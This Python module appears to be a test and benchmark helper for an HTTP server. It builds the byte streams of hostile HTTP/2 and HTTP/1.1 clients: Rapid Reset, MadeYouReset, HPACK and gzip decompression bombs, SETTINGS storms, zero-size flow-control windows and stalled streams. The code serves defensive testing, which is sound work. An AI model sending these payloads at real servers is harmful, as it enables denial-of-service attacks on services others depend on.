"""The client side of the attacks in issue #17, as bytes: what a hostile client sends.

Each builder returns what one connection sends (the preface included, for HTTP/2), so the same
bytes drive the sans-IO engine tests (``tests/test_hostile_engines.py``), the real-socket tests
(``tests/test_hostile_e2e.py``) and the bench (``bench/attacks.py``), which sends them in a
loop, reconnecting whenever the server closes.

- :func:`made_you_reset`: frames that make the *server* reset streams ("MADE YOU RESET",
  CVE-2025-8671): DATA after the request ended (STREAM_CLOSED), or a WINDOW_UPDATE that
  overflows the stream's window (FLOW_CONTROL_ERROR). The client never sends RST_STREAM.
- :func:`rapid_reset`: a request and its RST_STREAM at once (CVE-2023-44487).
- :func:`settings_storm`: streams parked open, then SETTINGS frames full of
  INITIAL_WINDOW_SIZE changes (each walks every stream's window).
- :func:`hpack_bomb`: one big header inserted into the HPACK table, then requests that refer to
  it until their header list is just under the cap (a few bytes each, 16 KB decoded).
- :func:`gzip_bomb`: a POST whose gzip body inflates 1000 times its size.
- :func:`zero_window` (and :func:`one_byte_window`): SETTINGS_INITIAL_WINDOW_SIZE 0 (1), then
  requests whose answers can never
  be sent.
- :func:`open_header_block`, :func:`stalled_bodies`, :func:`blank_lines`, :func:`idle`: what is
  held forever if nothing has a deadline: a header block never ended, request bodies never
  sent, HTTP/1.1 empty lines in place of a request line, a connection that only PINGs.
- :func:`half_closed_streams`: requests announcing a body over the cap (answered 413, which
  half-closes the stream) whose body never comes: streams past max_concurrent_streams if those
  are not counted.
"""

from __future__ import annotations

import gzip

import hpack

from transport import h2_wire as W

#: The bid endpoint, and a request body it answers (a no-bid or a bid: honest work).
PATH = b"/openrtb2/bid"
BODY = b'{"id":"a1","imp":[{"id":"1","banner":{"w":300,"h":250}}],"site":{"domain":"x.test"}}'


def preface(settings: dict[int, int] | None = None) -> bytes:
    """The client preface, its SETTINGS, and the ACK of the server's."""
    return W.PREFACE + W.settings(settings or {}) + W.frame(W.SETTINGS, W.ACK, 0)


class Requests:
    """Request header blocks on one connection (one HPACK context: repeated fields indexed)."""

    def __init__(self, authority: bytes = b"bidder.test") -> None:
        self.encoder = hpack.Encoder()
        self.authority = authority

    def block(self, method: bytes = b"POST", extra: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
        fields = [
            (b":method", method),
            (b":scheme", b"http"),
            (b":authority", self.authority),
            (b":path", PATH),
            (b"content-type", b"application/json"),
            *extra,
        ]
        return bytes(self.encoder.encode(fields))

    def headers(self, sid: int, *, end_stream: bool, **kw: object) -> bytes:
        flags = W.END_HEADERS | (W.END_STREAM if end_stream else 0)
        return W.frame(W.HEADERS, flags, sid, self.block(**kw))  # type: ignore[arg-type]


def _sids(first: int, count: int) -> range:
    return range(first, first + 2 * count, 2)


def made_you_reset(count: int, *, kind: str = "data", first: int = 1) -> bytes:
    """``count`` streams the server must reset: a whole GET, then DATA on it (``data``: the
    stream is half-closed (remote), so STREAM_CLOSED), or an open POST, then a WINDOW_UPDATE
    past 2^31-1 (``window``: FLOW_CONTROL_ERROR)."""
    req = Requests()
    out = []
    for sid in _sids(first, count):
        if kind == "data":
            out.append(req.headers(sid, end_stream=True, method=b"GET"))
            out.append(W.frame(W.DATA, 0, sid, b"x"))
        else:
            out.append(req.headers(sid, end_stream=False))
            out.append(W.window_update(sid, W.MAX_WINDOW))
    return b"".join(out)


def rapid_reset(count: int, *, first: int = 1) -> bytes:
    """``count`` whole requests, each followed at once by RST_STREAM(CANCEL)."""
    req = Requests()
    out = []
    for sid in _sids(first, count):
        out.append(req.headers(sid, end_stream=True, method=b"GET"))
        out.append(W.rst_stream(sid, W.CANCEL))
    return b"".join(out)


def parked_streams(count: int, *, first: int = 1) -> bytes:
    """``count`` POSTs whose body never comes (open streams)."""
    req = Requests()
    return b"".join(req.headers(sid, end_stream=False) for sid in _sids(first, count))


def settings_storm(frames: int, entries: int) -> bytes:
    """``frames`` SETTINGS frames of ``entries`` INITIAL_WINDOW_SIZE changes each (values that
    alternate, so every entry changes every window)."""
    payload = b"".join(
        W.SETTING.pack(W.SETTINGS_INITIAL_WINDOW_SIZE, 65535 + (i & 1)) for i in range(entries)
    )
    return W.frame(W.SETTINGS, 0, 0, payload) * frames


def hpack_bomb(count: int, *, limit: int = 16 * 1024, first: int = 1) -> bytes:
    """``count`` GETs whose header lists decode to just under ``limit`` bytes: the first block
    inserts a 4 KB field into the dynamic table, every block refers to it (one byte) as often
    as fits. Answered (405: GET on the bid path), so the connection is not a protocol error."""
    name, value = b"x-bomb", b"b" * 3900
    field = len(name) + len(value) + 32
    encoder = hpack.Encoder()
    base = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"bidder.test"),
            (b":path", PATH)]  # fmt: skip
    room = limit - sum(len(n) + len(v) + 32 for n, v in base) - 64
    repeats = max(1, room // field)
    out = []
    for sid in _sids(first, count):
        block = encoder.encode(base + [(name, value)] * repeats)
        out.append(W.frame(W.HEADERS, W.END_HEADERS | W.END_STREAM, sid, bytes(block)))
    return b"".join(out)


def gzip_body(size: int = 2 * 1024 * 1024) -> bytes:
    """``size`` zero bytes, gzipped (about 1/1000 of it)."""
    return gzip.compress(b"\0" * size, 9)


def gzip_bomb(count: int, *, size: int = 2 * 1024 * 1024, first: int = 1) -> bytes:
    """``count`` POSTs of a gzip body that inflates to ``size`` bytes."""
    body = gzip_body(size)
    req = Requests()
    extra = ((b"content-encoding", b"gzip"), (b"content-length", b"%d" % len(body)))
    out = []
    for sid in _sids(first, count):
        out.append(req.headers(sid, end_stream=False, extra=extra))
        out.append(W.frame(W.DATA, W.END_STREAM, sid, body))
    return b"".join(out)


def gzip_bomb_h1(count: int, *, size: int = 2 * 1024 * 1024) -> bytes:
    """The same over HTTP/1.1, pipelined."""
    body = gzip_body(size)
    head = (
        b"POST %s HTTP/1.1\r\nHost: bidder.test\r\ncontent-type: application/json\r\n"
        b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % (PATH, len(body))
    )
    return (head + body) * count


def requests(count: int, *, first: int = 1, body: bytes = BODY) -> bytes:
    """``count`` honest POSTs with a bid request body."""
    req = Requests()
    out = []
    for sid in _sids(first, count):
        out.append(req.headers(sid, end_stream=False))
        out.append(W.frame(W.DATA, W.END_STREAM, sid, body))
    return b"".join(out)


def zero_window(count: int) -> bytes:
    """A client that can receive nothing (INITIAL_WINDOW_SIZE 0), then ``count`` requests."""
    return preface({W.SETTINGS_INITIAL_WINDOW_SIZE: 0}) + requests(count)


def one_byte_window(count: int) -> bytes:
    """The same with INITIAL_WINDOW_SIZE 1: each answer's first byte goes out, the rest waits."""
    return preface({W.SETTINGS_INITIAL_WINDOW_SIZE: 1}) + requests(count)


def open_header_block() -> bytes:
    """A HEADERS frame without END_HEADERS, and nothing more."""
    block = Requests().block()
    return preface() + W.frame(W.HEADERS, 0, 1, block[:3])


def stalled_bodies(count: int) -> bytes:
    """``count`` POSTs whose body never comes."""
    return preface() + parked_streams(count)


def half_closed_streams(count: int, *, first: int = 1) -> bytes:
    """``count`` POSTs announcing a body of 1 GB (answered 413: half-closed (local)) that never
    send it."""
    req = Requests()
    extra = ((b"content-length", b"1000000000"),)
    return b"".join(req.headers(sid, end_stream=False, extra=extra) for sid in _sids(first, count))


def blank_lines(count: int) -> bytes:
    """HTTP/1.1: empty lines where a request line should be."""
    return b"\r\n" * count


def ping() -> bytes:
    """One PING (what an idle connection sends to look alive)."""
    return W.frame(W.PING, 0, 0, b"idle-ok!")


__all__ = [
    "BODY",
    "PATH",
    "Requests",
    "blank_lines",
    "gzip_body",
    "gzip_bomb",
    "gzip_bomb_h1",
    "half_closed_streams",
    "hpack_bomb",
    "made_you_reset",
    "one_byte_window",
    "open_header_block",
    "parked_streams",
    "ping",
    "preface",
    "rapid_reset",
    "requests",
    "settings_storm",
    "stalled_bodies",
    "zero_window",
]
